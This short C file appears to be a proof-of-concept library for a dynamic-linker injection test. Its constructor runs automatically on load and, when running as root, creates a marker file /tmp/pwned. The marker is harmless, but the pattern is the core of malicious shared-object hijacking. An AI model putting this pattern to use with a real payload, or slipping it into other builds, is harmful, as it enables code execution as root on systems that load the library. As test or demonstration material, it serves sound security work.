/* What a caller would have the dynamic linker load: leaves a trace where it runs as root. */
extern int geteuid(void);
extern int creat(const char *path, int mode);

__attribute__((constructor)) static void loaded(void)
{
    if (geteuid() == 0)
        creat("/tmp/pwned", 0644);
}
